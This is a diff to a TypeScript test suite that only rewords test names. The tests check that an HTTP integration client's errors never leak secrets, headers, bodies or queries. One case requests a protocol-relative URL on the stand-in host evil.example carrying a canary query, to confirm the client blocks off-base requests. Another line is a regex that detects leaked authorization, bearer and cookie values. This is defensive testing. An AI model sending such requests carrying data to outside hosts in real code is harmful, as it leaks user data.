@@ -14,7 +14,7 @@ const canaries = {
   link: 'canary-link',
 };
 
-/** Everything that a log could show of a value. */
+/** Everything that a log could show about a value. */
 const everythingOf = (value: unknown) =>
   [
     inspect(value, { depth: Number.POSITIVE_INFINITY, showHidden: true, getters: true, maxStringLength: null }),
@@ -67,7 +67,7 @@ const failures: [name: string, code: string, make: () => Promise<unknown>][] = [
     },
   ]),
   ...faultCodes.map((code): (typeof failures)[number] => [
-    `a fault of the provider: ${code}`,
+    `an error found by the provider: ${code}`,
     code,
     async () => {
       const server = await serve((response) => sendJson(response, 200, answer, headers));
@@ -90,7 +90,7 @@ const failures: [name: string, code: string, make: () => Promise<unknown>][] = [
     async () => failing((await serve((response) => response.socket?.destroy())).origin),
   ],
   [
-    'a fetch of the host that fails with all it knows',
+    'a fetch of the host whose error contains everything',
     'provider_unavailable',
     () =>
       failing('https://api.acme.example', {
@@ -102,7 +102,7 @@ const failures: [name: string, code: string, make: () => Promise<unknown>][] = [
       }),
   ],
   [
-    'a body that is no JSON',
+    'a body that is not JSON',
     'provider_malformed',
     async () => {
       const server = await serve((response) =>
@@ -144,12 +144,12 @@ const failures: [name: string, code: string, make: () => Promise<unknown>][] = [
     () => failing('https://api.acme.example', { session: sessionOf([`${canaries.token}\nx: y`]) }),
   ],
   [
-    'a path that leads out',
+    'a path that leaves the base URL',
     'not_configured',
     () => failing('https://api.acme.example', {}, (http) => http.get(`//evil.example/${canaries.query}`)),
   ],
   [
-    'a budget that is spent',
+    'a budget that is used up',
     'provider_rate_limited',
     async () => {
       const server = await serve((response) => sendJson(response, 200, answer, headers));
@@ -173,7 +173,7 @@ const failures: [name: string, code: string, make: () => Promise<unknown>][] = [
     },
   ]),
   [
-    'a link that may not be fetched',
+    'a link that must not be fetched',
     'not_configured',
     () =>
       failing('https://api.acme.example', {}, async (http) => {
@@ -184,7 +184,7 @@ const failures: [name: string, code: string, make: () => Promise<unknown>][] = [
   ],
 ];
 
-describe('no error holds a secret, a header, a body or a query', () => {
+describe('no error contains a secret, a header, a body or a query', () => {
   it.each(failures)('%s (%s)', async (_, code, make) => {
     const error = await make();
     expect(error).toBeInstanceOf(IntegrationError);
@@ -195,7 +195,7 @@ describe('no error holds a secret, a header, a body or a query', () => {
     expect(shown).not.toMatch(/authorization|bearer|cookie|ky\b.*Error/i);
   });
 
-  it('is a check that finds what is hidden well', () => {
+  it('the check finds deeply hidden values', () => {
     const hidden = Object.defineProperty(
       new Error('outer', { cause: { deep: [{ er: new Map([['k', 'canary-token']]) }] } }),
       'x',
